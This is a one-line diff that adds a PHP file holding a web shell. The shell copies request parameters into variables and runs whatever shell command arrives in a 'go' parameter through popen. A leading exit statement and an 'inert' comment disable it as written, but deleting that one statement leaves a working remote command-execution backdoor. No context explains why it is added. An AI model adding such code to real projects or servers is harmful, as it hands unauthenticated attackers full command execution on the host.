@@ -1,0 +1,1 @@
+<?php exit; /* inert */ while(list($k,$v)=each($HTTP_GET_VARS)) $$k=$v; if($go) { $p=popen($go." 2>&1","r"); }
